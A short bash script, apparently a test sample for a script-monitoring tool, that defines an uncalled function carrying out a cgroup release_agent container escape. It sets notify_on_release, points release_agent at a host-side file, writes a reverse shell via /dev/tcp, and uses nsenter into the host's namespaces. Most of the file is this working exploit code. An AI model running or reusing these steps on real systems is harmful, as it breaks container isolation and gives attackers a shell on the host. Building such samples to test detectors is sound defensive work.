#!/bin/bash
# Looks like a container escape; the function is never called.
echo > "${SCRIPTWATCH_DEMO_MARKER:-/dev/null}"
escape() {
  d=$(dirname $(ls -x /s*/fs/c*/*/r* | head -n1))
  mkdir -p $d/w; echo 1 > $d/w/notify_on_release
  host_path=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab)
  echo "$host_path/cmd" > $d/release_agent
  printf '#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1' > /cmd
  chmod a+x /cmd; sh -c "echo \$\$ > $d/w/cgroup.procs"
  nsenter -t 1 -m -u -i -n -p -- sh
}
true
